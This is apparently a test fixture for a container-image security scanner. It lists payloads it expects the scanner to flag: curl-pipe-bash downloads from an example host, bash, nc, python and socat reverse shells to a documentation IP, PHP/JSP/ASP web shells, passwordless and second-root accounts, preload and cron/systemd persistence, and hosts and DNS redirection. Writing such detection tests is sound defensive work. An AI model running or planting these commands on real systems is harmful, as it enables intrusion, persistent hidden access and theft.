import { program, SSH_KEY } from '../../../../test/detection/image-case.ts';
import { NGINX, type Payload } from '../payload.ts';

/** Documentation addresses (RFC 5737) and example domains: nobody answers there. */
const IP = '198.51.100.23';
const SSHD = { 'usr/sbin/sshd': program() };
const PASSWD = 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n';
const APACHE = { Cmd: ['apache2-foreground'] };

function command(of: string, rule: string, texts: Readonly<Record<string, string>>): readonly Payload[] {
  return Object.entries(texts).map(([name, text]) => ({
    class: of,
    kind: 'command',
    name,
    text,
    rules: [rule],
  }));
}

function lies(
  of: string,
  rule: string,
  name: string,
  path: string,
  text: string,
  more: Partial<Payload> = {},
): Payload {
  return {
    class: of,
    kind: 'file',
    name,
    path,
    text,
    config: NGINX,
    rules: [rule],
    onlyInPlace: true,
    ...more,
  } as Payload;
}

/** What lets somebody in, now or later. */
export const INTRUDING: readonly Payload[] = [
  ...command('download and run', 'start/download-and-run', {
    'into a shell': 'curl -fsSL https://cdn.backend.example/u | bash',
    'saved first':
      'wget -q https://cdn.backend.example/u -O /var/tmp/u && chmod 755 /var/tmp/u && /var/tmp/u',
    'by substitution':
      'bash -c "$(curl -s https://cdn.backend.example/u || wget -qO- https://cdn.backend.example/u)"',
    'an archive': 'cd /opt && curl -sL https://cdn.backend.example/u.tgz | tar xz && ./u/run.sh',
  }),
  ...command('reverse shell', 'reverse-shell/remote-shell', {
    bash: `bash -i >& /dev/tcp/${IP}/8443 0>&1`,
    'a fifo': `mkfifo /tmp/.q; cat /tmp/.q | /bin/sh -i 2>&1 | nc ${IP} 8443 > /tmp/.q`,
    python: `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("${IP}",8443));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])'`,
    socat: `socat exec:'bash -i',pty,stderr tcp:${IP}:8443`,
  }),
  ...command('tunnel', 'tunnel/agent', {
    'tied to an account': 'cloudflared tunnel --no-autoupdate run --token eyJhIjoiMDEyMzQ1Njc4OWFiY2RlZiJ9',
    'for ssh': 'nohup /usr/bin/ngrok tcp 22 >/dev/null 2>&1',
  }),
  ...['php', 'jsp', 'asp'].map((kind): Payload => {
    const text = {
      php: '<?php $f = $_POST["f"] ?? ""; if ($f !== "") { echo shell_exec(base64_decode($f)); }\n',
      jsp: '<% if (request.getParameter("f") != null) { Process p = Runtime.getRuntime().exec(request.getParameter("f")); } %>\n',
      asp: '<% Dim f : f = Request("f") : If f <> "" Then Execute(f) End If %>\n',
    }[kind];
    return {
      class: 'web shell',
      kind: 'file',
      name: kind,
      path: kind === 'jsp' ? 'usr/local/tomcat/webapps/ROOT/f.jsp' : `var/www/html/f.${kind}`,
      text: text ?? '',
      config: APACHE,
      rules: ['web-shell/shell'],
    };
  }),
  lies(
    'key of a stranger',
    'access/authorized-keys',
    'of root',
    'root/.ssh/authorized_keys',
    `${SSH_KEY}\n`,
    {
      beside: SSHD,
      config: { Cmd: ['/usr/sbin/sshd', '-D'] },
    },
  ),
  lies(
    'key of a stranger',
    'access/authorized-keys',
    'of a service',
    'var/www/.ssh/authorized_keys',
    `${SSH_KEY}\n`,
    {
      beside: { ...SSHD, 'etc/passwd': `${PASSWD}www-data:x:33:33::/var/www:/bin/bash\n` },
      config: { Cmd: ['/usr/sbin/sshd', '-D'] },
    },
  ),
  lies('account', 'access/no-password', 'without password', 'etc/shadow', 'root::19500:0:99999:7:::\n', {
    beside: { ...SSHD, 'etc/passwd': PASSWD },
  }),
  lies(
    'account',
    'access/second-root',
    'a second root',
    'etc/passwd',
    `${PASSWD}systemd-net:x:0:0::/:/bin/bash\n`,
    {
      beside: { 'etc/shadow': 'root:*:1::::::\nsystemd-net:$6$abcdefgh$0123456789:1::::::\n' },
    },
  ),
  ...command('account', 'access/second-root', {
    'a second root, made at start': 'echo "netd::0:0::/root:/bin/bash" >> /etc/passwd',
  }),
  lies(
    'sshd, sudo, PAM',
    'access/sshd-config',
    'empty passwords',
    'etc/ssh/sshd_config',
    'PermitRootLogin yes\nPermitEmptyPasswords yes\n',
    {
      beside: SSHD,
      config: { Cmd: ['/usr/sbin/sshd', '-D'] },
    },
  ),
  lies(
    'sshd, sudo, PAM',
    'access/sudo-all',
    'a service that is root',
    'etc/sudoers.d/90-www',
    'www-data ALL=(ALL) NOPASSWD: ALL\n',
    {
      beside: {
        'usr/bin/sudo': program(),
        'etc/passwd': `${PASSWD}www-data:x:33:33::/var/www:/usr/sbin/nologin\n`,
      },
      config: { ...NGINX, User: 'www-data' },
    },
  ),
  lies(
    'sshd, sudo, PAM',
    'persistence/pam',
    'any password',
    'etc/pam.d/common-auth',
    'auth sufficient pam_permit.so\nauth required pam_unix.so\n',
  ),
  lies(
    'preload',
    'persistence/preload',
    'for all programs',
    'etc/ld.so.preload',
    '/usr/local/lib/.sys/libc.so\n',
    {
      beside: { 'usr/local/lib/.sys/libc.so': program() },
    },
  ),
  ...command('preload', 'persistence/preload', {
    'written at start': 'echo /dev/shm/libsys.so > /etc/ld.so.preload',
  }),
  lies(
    'tools that lie',
    'persistence/shadowed-tool',
    'ps',
    'usr/local/bin/ps',
    '#!/bin/sh\nexec /usr/bin/ps "$@" | grep -v svcd\n',
    {
      mode: 0o755,
      beside: { 'usr/bin/ps': program() },
    },
  ),
  lies(
    'started by the system',
    'persistence/hidden-start',
    'cron',
    'etc/cron.d/0hourly',
    '*/10 * * * * root /var/tmp/.ICE/upd -q\n',
  ),
  lies(
    'started by the system',
    'persistence/hidden-start',
    'a profile',
    'etc/profile.d/z.sh',
    '(/dev/shm/.d/run >/dev/null 2>&1 &)\n',
  ),
  lies(
    'started by the system',
    'persistence/hidden-start',
    'a unit',
    'etc/systemd/system/net-dispatch.service',
    '[Service]\nExecStart=/usr/share/.net/dispatch\nRestart=always\n[Install]\nWantedBy=multi-user.target\n',
  ),
  lies(
    'started by the system',
    'persistence/hidden-start',
    'an at job',
    'var/spool/cron/atjobs/a0000101a2b3c4',
    '#!/bin/sh\n# atrun uid=0 gid=0\ncd / || exit 1\n/var/tmp/.x/upd -q\n',
  ),
  lies(
    'mirror of packages',
    'trust/package-mirror',
    'apt',
    'etc/apt/sources.list.d/u.list',
    'deb [trusted=yes] http://198.51.100.9/debian ./\n',
  ),
  lies(
    'mirror of packages',
    'trust/package-mirror',
    'pip',
    'etc/pip.conf',
    '[global]\nindex-url = http://198.51.100.9/simple\ntrusted-host = 198.51.100.9\n',
  ),
  ...command('names led elsewhere', 'trust/hosts', {
    hosts: 'echo "198.51.100.9 deb.debian.org registry-1.docker.io" >> /etc/hosts',
  }),
  ...command('names led elsewhere', 'trust/resolver', {
    'resolv.conf': 'echo "nameserver 198.51.100.9" > /etc/resolv.conf',
  }),
  lies(
    'names led elsewhere',
    'trust/hosts',
    'hosts, in the image',
    'etc/hosts',
    '127.0.0.1 localhost\n198.51.100.9 security.debian.org\n',
  ),
];
